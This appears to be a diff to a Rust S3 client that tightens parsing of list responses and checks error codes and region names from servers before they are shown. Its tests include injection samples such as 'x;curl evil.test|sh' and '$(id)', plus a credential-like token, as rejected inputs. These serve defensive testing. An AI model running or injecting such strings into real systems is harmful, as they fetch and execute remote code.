@@ -151,8 +151,13 @@ pub(super) fn page(body: &[u8]) -> Result<Page, S3Error> {
     }
     let list = ListObjectsV2::parse_response_from_reader(Cursor::new(body));
     let list = list.map_err(|_| not_a_list())?;
+    // Some servers don't look at what they were asked for, and give keys as they are.
+    let is_encoded = memchr::memmem::find(body, b"<EncodingType>url<").is_some();
     let objects = list.contents.into_iter().map(|object| Listed {
-        key: decoded(&object.key),
+        key: match is_encoded {
+            true => decoded(&object.key),
+            false => object.key,
+        },
         size: object.size,
         etag: object.etag,
         modified: object.last_modified,
@@ -160,7 +165,10 @@ pub(super) fn page(body: &[u8]) -> Result<Page, S3Error> {
     let next = list
         .next_continuation_token
         .filter(|token| !token.is_empty());
-    let goes_on = memchr::memmem::find(body, b"<IsTruncated>true</IsTruncated>").is_some();
+    let goes_on = memchr::memmem::find(body, TRUNCATED).is_some_and(|at| {
+        let said = body[at + TRUNCATED.len()..].trim_ascii_start();
+        said.starts_with(b"true")
+    });
     if goes_on && next.is_none() {
         return Err(S3Error::new(
             "the list says that it goes on, and not how: the rest of the objects can't be known",
@@ -181,6 +189,9 @@ fn decoded(key: &str) -> String {
         .map_or_else(|| key.to_owned(), |(_, key)| key.into_owned())
 }
 
+/// Begins the member of a list that says whether it goes on.
+const TRUNCATED: &[u8] = b"<IsTruncated>";
+
 /// What an answer says that is no success.
 pub(super) async fn refused(mut response: Response, access: &Access) -> S3Error {
     let status = response.status();
@@ -192,8 +203,9 @@ pub(super) async fn refused(mut response: Response, access: &Access) -> S3Error 
         body.extend_from_slice(&piece);
     }
     let body = String::from_utf8_lossy(&body);
-    let code = element(&body, "Code");
+    let code = element(&body, "Code").filter(|code| is_code(code));
     let region = region.or_else(|| element(&body, "Region"));
+    let region = region.filter(|region| is_region(region));
     explained(status, code.as_deref(), region, access)
 }
 
@@ -207,6 +219,17 @@ fn element(xml: &str, name: &str) -> Option<String> {
     let (_, rest) = xml.split_once(&format!("<{name}>"))?;
     let (text, _) = rest.split_once("</")?;
     Some(fit(text))
+}
+
+/// Whether a text is one of S3's codes, which are words: another may repeat what was sent, the signature above all.
+fn is_code(text: &str) -> bool {
+    text.len() <= 40 && text.bytes().all(|byte| byte.is_ascii_alphabetic())
+}
+
+/// Whether a text is the name of a region. It is said how to set it, so nothing else may stand there.
+fn is_region(text: &str) -> bool {
+    let is_of_name = |byte: u8| byte.is_ascii_lowercase() || byte.is_ascii_digit() || byte == b'-';
+    (1..=32).contains(&text.len()) && text.bytes().all(is_of_name)
 }
 
 fn fit(text: &str) -> String {
@@ -312,6 +335,30 @@ mod tests {
         check(200, "\"e\"", "", 300, false);
     }
 
+    /// What a server says may end up on somebody's command line, and may repeat what it was sent.
+    #[test]
+    fn of_what_a_server_says_only_names_are_told() {
+        for (region, expected) in [
+            ("eu-south-2", true),
+            ("x;curl evil.test|sh", false),
+            ("$(id)", false),
+            ("", false),
+            (
+                "4f1d8c07b93e5a264f1d8c07b93e5a264f1d8c07b93e5a264f1d8c07b93e5a26",
+                false,
+            ),
+        ] {
+            assert_eq!(is_region(region), expected, "{region}");
+        }
+        for (code, expected) in [
+            ("SignatureDoesNotMatch", true),
+            ("4f1d8c07b93e5a26", false),
+            ("FwoGZXIvYXdzEBYaDKey/+=", false),
+        ] {
+            assert_eq!(is_code(code), expected, "{code}");
+        }
+    }
+
     #[test]
     fn a_list_that_goes_on_says_how() {
         let list = |token: &str| {
@@ -322,6 +369,8 @@ mod tests {
         };
         let goes_on = list("<NextContinuationToken>b</NextContinuationToken>").unwrap();
         assert_eq!(goes_on.next.as_deref(), Some("b"));
+        let xml = b"<ListBucketResult><IsTruncated> true </IsTruncated></ListBucketResult>";
+        assert!(page(xml).is_err());
         assert!(list("").unwrap_err().to_string().contains("can't be known"));
     }
 
